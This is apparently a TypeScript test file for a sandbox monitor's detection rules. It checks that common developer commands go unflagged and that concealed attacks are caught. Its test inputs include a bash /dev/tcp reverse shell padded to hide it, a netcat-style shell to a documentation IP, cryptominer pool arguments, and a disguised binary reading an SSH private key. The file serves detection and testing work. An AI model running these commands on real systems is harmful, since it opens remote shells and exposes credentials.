import { readdirSync } from 'node:fs';
import { beforeAll, describe, expect, it } from 'vitest';
import { responses } from '../../../src/monitor/detection.ts';
import { eventKinds, type SensorEvent } from '../../../src/monitor/event.ts';
import { runExamples } from '../../../src/monitor/rules/examples.ts';
import { lintRule } from '../../../src/monitor/rules/lint-rules.ts';
import { builtInDirectory, loadRules, type LoadedRules } from '../../../src/monitor/rules/load-rules.ts';
import { event, exec, idsOf, sandbox } from './judged.ts';

const loaded: LoadedRules = await loadRules({ directories: [] });
const { rules } = loaded;
const judge = (each: SensorEvent) => idsOf(rules.judge(each, sandbox()));

describe('the rules that come with coi', () => {
  it('are all usable', () => {
    expect(loaded.problems).toEqual([]);
    expect(rules.rules.length).toBeGreaterThan(100);
    expect(readdirSync(builtInDirectory).filter((name) => name.endsWith('.toml')).length).toBeGreaterThan(10);
  });

  it.each(rules.rules.map((rule) => ({ rule, id: rule.about.id })))('$id is about its examples', ({ rule }) => {
    expect(lintRule(rule).map(({ message }) => message)).toEqual([]);
    expect(runExamples(rule).map(({ matched }) => matched)).toEqual(rule.examples.map(({ matches }) => matches));
  });

  it('watch every kind of event', () => {
    const watched = new Set(rules.rules.map((rule) => rule.event));
    expect(eventKinds.filter((kind) => !watched.has(kind))).toEqual([]);
  });

  it('freeze nothing by what is not stable', () => {
    const acting = rules.rules.filter(({ about }) => responses.indexOf(about.response ?? 'log') > 1);
    expect(acting.length).toBeGreaterThan(3);
    expect(acting.filter(({ about }) => about.maturity !== 'stable')).toEqual([]);
  });
});

describe('ordinary work', () => {
  const commands: readonly (readonly string[])[] = [
    ['ssh', '-i', 'key', 'host'],
    ['ssh', '-i', '/home/code/.ssh/id_ed25519', '-p', '2222', 'git@git.example.com'],
    ['env', 'X=1', 'cmd'],
    ['env', '-i', 'sh', 'build.sh'],
    ['python3', '-c', 'print(1:2)'],
    ['python3', '-c', 'import socket; print(socket.gethostname())'],
    ['python3', '-m', 'http.server', '8080'],
    ['grep', 'keyboard', 'notes.txt'],
    ['grep', '-rn', '/dev/tcp/', 'src'],
    ['npm', 'install'],
    ['node', '/usr/bin/npm', 'ci'],
    ['pnpm', 'install', '--frozen-lockfile'],
    ['cargo', 'build', '--release'],
    ['pip', 'install', '-r', 'requirements.txt'],
    ['git', 'clone', 'https://git.example.com/shop.git'],
    ['git', 'commit', '-m', 'Take bash -i out of the docs'],
    ['docker', 'build', '-t', 'app', '.'],
    ['docker', 'run', '--rm', '-v', '/workspace:/w', '-e', 'CI=1', 'node', 'npm', 'test'],
    ['gcc', '-c', '-o', 'nc.o', 'nc.c'],
    ['make', '-j8', '-C', 'socat'],
    ['curl', '-fsS', 'http://192.168.1.7:8080/health'],
    ['curl', '-T', 'build.tar', 'https://files.example.com/'],
    ['nc', '-zv', 'db', '5432'],
    ['sh', '-c', 'until nc -z db 5432; do sleep 1; done'],
    ['bash', '-c', 'timeout 1 bash -c "</dev/tcp/localhost/5432"'],
    ['bash', '-i', '-c', 'env -0 > /tmp/env'],
    ['bash', '-l'],
    ['perl', '-e', 'print "a:b"'],
    ['perl', '-pe', 's/socket/plug/', 'x'],
    ['ruby', '-e', 'puts `date`'],
    ['php', '-r', 'echo 1;'],
    ['awk', '{print $1}', 'x'],
    ['tar', 'czf', '/tmp/w.tgz', '/workspace'],
    ['apt-get', 'install', '-y', 'netcat-openbsd', 'nmap'],
    ['modprobe', '-va', 'bridge', 'nf_nat', 'br_netfilter'],
    ['iptables', '--wait', '-t', 'nat', '-F', 'DOCKER'],
    ['sudo', 'make', 'install'],
    ['rm', '-rf', '/var/lib/apt/lists/*'],
    ['chmod', '+x', 'run.sh'],
    ['find', '/', '-name', '*.so'],
    ['kill', '1234'],
    ['pkill', '-f', 'vite'],
  ];

  it.each(commands.map((words) => ({ words, line: words.join(' ') })))('$line is nobody’s business', ({ words }) => {
    expect(judge(exec(words))).toEqual([]);
  });

  it('reaches an allowed service of the local network', () => {
    for (const port of [80, 443, 1234, 4444, 5555, 6667, 8080]) {
      const flow = { proto: 'tcp', source: '10.90.0.2', address: '192.168.1.7', port, verdict: 'passed' };
      expect(judge(event('connection', flow))).toEqual([]);
    }
  });

  it('waits for ports and asks servers by hand', () => {
    const acts = (of: object) => {
      const seen = {
        pid: 2,
        ppid: 1,
        name: 'bash',
        program: '/usr/bin/bash',
        words: ['bash', 'wait-for-it.sh'],
        parents: [],
      };
      const found = rules.judge(event('stdio', { ...seen, ...of }), sandbox());
      return found.filter(({ rule }) => rule.severity !== 'warning').map(({ rule }) => rule.id);
    };
    expect(acts({ descriptor: 1 })).toEqual([]);
    expect(acts({ descriptor: 0 })).toEqual([]);
    expect(acts({ descriptor: 0, isFromStart: true, program: '/usr/bin/cat', words: ['cat'] })).toEqual([]);
    expect(acts({ descriptor: 1, isFromStart: true, program: '/usr/bin/printf', words: ['printf'] })).toEqual([]);
    expect(acts({ descriptor: 0, isFromStart: true })).toEqual(['shell.on-a-socket']);
  });

  it('starts a system, whose init was there before anybody looked', () => {
    const init = { pid: 1, ppid: 0, name: 'systemd', program: '', words: ['/sbin/init'], parents: [] };
    for (const [call, ...details] of [
      ['mount', 'cgroup', '/run/cgroup', 'cgroup'],
      ['bpf', '5'],
      ['keyctl', '0'],
      ['setns'],
    ]) {
      expect(judge(event('call', { ...init, call, details }))).toEqual([]);
    }
  });

  it('runs containers', () => {
    const runc = { pid: 2, ppid: 1, name: 'runc', program: '/usr/sbin/runc', words: ['runc', 'init'], parents: [] };
    for (const [call, ...details] of [
      ['mount', 'proc', '/proc', 'proc'],
      ['mount', 'cgroup', '/sys/fs/cgroup', 'cgroup'],
      ['pivot_root'],
      ['setns'],
      ['bpf'],
      ['keyctl'],
    ]) {
      expect(judge(event('call', { ...runc, call, details }))).toEqual([]);
    }
    const copy = { program: '/proc/self/fd/7', isNameless: true, user: 0, parents: [runc] };
    expect(judge(exec(['runc', 'init'], copy))).toEqual([]);
    const other = [{ ...runc, program: '/tmp/x' }];
    expect(judge(exec(['runc', 'init'], { ...copy, parents: other }))).toEqual(['tampering.nameless']);
  });
});

describe('what hides', () => {
  let payload: string;
  beforeAll(() => {
    payload = 'bash -i >& /dev/tcp/203.0.113.5/443 0>&1';
  });

  it.each([
    ['behind much that is harmless', () => `: ${'x'.repeat(6000)}; ${payload}`],
    ['across the border of two pieces', () => `${'x'.repeat(2030)}; ${payload}`],
    ['behind many lines', () => `${'true\n'.repeat(900)}${payload}`],
  ])('is found %s', (_, text) => {
    expect(judge(exec(['bash', '-c', text()]))).toContain('shell.dev-tcp');
  });

  it('is known by its words under another name', () => {
    expect(judge(exec(['/tmp/.x', '-e', '/bin/sh', '203.0.113.5', '443']))).toEqual(['shell.exec-shape']);
    expect(judge(exec(['/tmp/.x', '-o', 'stratum+tcp://pool.example.net:1', '-u', 'w']))).toEqual(['miner.arguments']);
  });

  it('is known by what it does under another name', () => {
    const seen = { pid: 2, ppid: 1, name: 'x', program: '/tmp/x', words: ['vim'], parents: [], descriptor: 0 };
    expect(judge(event('stdio', seen))).toEqual(['shell.program-on-a-socket']);
    expect(judge(event('stdio', { ...seen, words: ['-bash'], isFromStart: true }))).toEqual(['shell.on-a-socket']);
  });

  it('is not excepted for what it calls itself, or for who started it', () => {
    const key = { path: '/home/code/.ssh/id_rsa', access: 'read', pid: 2, ppid: 1, name: 'ssh' };
    const parents = [{ pid: 1, ppid: 0, name: 'ssh', program: '/usr/bin/ssh', words: ['ssh'] }];
    expect(judge(event('file', { ...key, program: '/tmp/x', words: ['ssh'], parents }))).toEqual([
      'credential.ssh-key',
    ]);
    expect(judge(event('file', { ...key, program: '/usr/bin/ssh', words: ['x'], parents: [] }))).toEqual([]);
  });
});
